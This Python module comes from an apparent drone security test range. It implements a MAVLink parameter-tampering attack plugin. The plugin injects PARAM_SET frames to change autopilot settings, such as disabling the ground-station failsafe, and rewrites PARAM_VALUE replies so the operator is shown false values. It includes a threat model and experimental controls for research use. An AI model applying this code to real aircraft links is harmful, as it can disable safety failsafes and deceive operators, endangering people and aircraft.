"""Parameter tampering: parameters of the autopilot are set, and the answers to the operator are falsified."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Annotated, Literal

from pydantic import AfterValidator, Field

from skyrange.attack.contract import Attack, AttackContext, AttackPlugin, Controls, ThreatModel
from skyrange.attack.exclusive import Exclusive
from skyrange.attack.mavlink.injection import NOBODY, Injection, Sender, inject, read, rewrite
from skyrange.attack.on_path import InjectingTap, Repetition
from skyrange.codec.mavlink import dialect as mav
from skyrange.codec.mavlink import message_id
from skyrange.contracts.frames.frame import Frame
from skyrange.contracts.links import Schedule
from skyrange.contracts.params import Number, Whole, refuse
from skyrange.contracts.verdicts import Replace, Verdict
from skyrange.core.errors import Problem
from skyrange.core.time import Time, from_seconds

_NAME_CHARS = 16
"""Size of param_id in PARAM_SET."""


def _parameter_names(values: Mapping[str, float]) -> Mapping[str, float]:
    for name in values:
        if not (0 < len(name) <= _NAME_CHARS and name.isascii() and name == name.upper()):
            raise refuse(Problem(name, repr(name), f"a parameter's name: 1 to {_NAME_CHARS} capital ASCII characters"))
    return values


Values = Annotated[dict[str, Number], AfterValidator(_parameter_names)]


class ParameterTampering(Injection):
    """Parameters and their new values."""

    values: Annotated[Values, Field(min_length=1)] = Field(
        description="New values by parameter, such as { FS_GCS_ENABLE = 0, WPNAV_SPEED = 2000 }."
    )
    shown: Values = Field(
        default={},
        description="Values that the operator is shown instead, by parameter: PARAM_VALUE is altered on its way to the "
        "station. Default: none is altered.",
    )
    every_s: Number = Field(default=1.0, ge=0.05, le=3600, description="Time between two rounds, in seconds.")
    times: Whole = Field(
        default=3, ge=0, le=100_000, description="Number of rounds in which all are set; 0 is until the attack stops."
    )


@dataclass(slots=True)
class ParameterSource:
    """A source of PARAM_SET messages."""

    sender: Sender
    schedule: Schedule
    values: tuple[tuple[str, float], ...]
    shown: tuple[tuple[str, float], ...]
    period_ns: Time
    times: int
    clock: Repetition = field(init=False)

    def __post_init__(self) -> None:
        self.clock = Repetition(self.schedule, self.period_ns, self.times)

    @property
    def due(self) -> Time | None:
        """When the next round is due."""
        return self.clock.due

    def see(self, now: Time, frame: Frame) -> None:
        """Learn who the station is."""
        self.sender.see(frame)

    def make(self, now: Time) -> Sequence[tuple[Literal["fwd"], bytes]]:
        """A PARAM_SET for each parameter."""
        if not self.clock.take(now):
            return []
        # autopilots convert by the type that they know, whatever the message says (GCS_Param.cpp, handle_param_set)
        return [
            ("fwd", self.sender.pack(mav.MAVLink_param_set_message(
                self.sender.target, self.sender.component, name.encode(), value, mav.MAV_PARAM_TYPE_REAL32
            )))
            for name, value in self.values
        ]  # fmt: skip


@dataclass(slots=True)
class ParameterTap:
    """A tap that injects the messages of its source and falsifies the answers of the autopilot."""

    link: str
    source: ParameterSource

    def on_frame(self, now: Time, frame: Frame) -> Sequence[Verdict]:
        """Put the shown value into a PARAM_VALUE on its way to the station; a sham sends it on as it is."""
        source = self.source
        source.see(now, frame)
        if not source.shown or frame.direction != "rev":
            return ()
        if message_id(frame.payload) != mav.MAVLINK_MSG_ID_PARAM_VALUE:
            return ()
        message = read(frame.payload)
        if message is None:
            return ()
        value = dict(source.shown).get(message.param_id)
        if value is None:
            return ()
        if source.sender.target == NOBODY:
            return [Replace(frame.payload)]
        shown = mav.MAVLink_param_value_message(
            message.param_id.encode(), value, message.param_type, message.param_count, message.param_index
        )
        return [Replace(rewrite(message, shown))]

    def next_wakeup(self) -> Time | None:
        """When the source is due."""
        return self.source.due

    def on_wakeup(self, now: Time) -> Sequence[Verdict]:
        """Inject what is due."""
        return InjectingTap(self.link, self.source).on_wakeup(now)


def make(params: ParameterTampering, context: AttackContext) -> Attack:
    """The attack. Raises `InputError` for aircraft that are not in the scenario."""
    arguments = (
        context.schedule, tuple(params.values.items()), tuple(params.shown.items()), from_seconds(params.every_s),
        params.times,
    )  # fmt: skip
    taps = inject(params, context, ParameterSource, *arguments, tap=ParameterTap)
    shown = frozenset(params.shown)
    exclusive = [Exclusive(f"PARAM_VALUE on {tap.match}", shown) for tap in taps] if shown else []
    return Attack(taps=taps, exclusive=exclusive)


PARAMETER = AttackPlugin(
    ParameterTampering,
    make,
    "Sets parameters of the autopilot, and may show the operator other values.",
    technique="T0836",
    surface=("gcs", "log", "autopilot"),
    persists="flight",
    effect="the autopilot flies with other limits, gains, failsafes or stream rates than its operator set",
    threat=ThreatModel(
        knowledge="system ids, and names of parameters, which are public",
        position="on the network of the control link; on its path to show other values",
        equipment="a computer with a MAVLink library",
        budget="one frame for each parameter and round",
    ),
    controls=Controls(
        load="the sham: the same frames, addressed to a system that is not there",
        content="the same frames with the values that the parameters have",
        placement="the same frames to another aircraft",
    ),
)
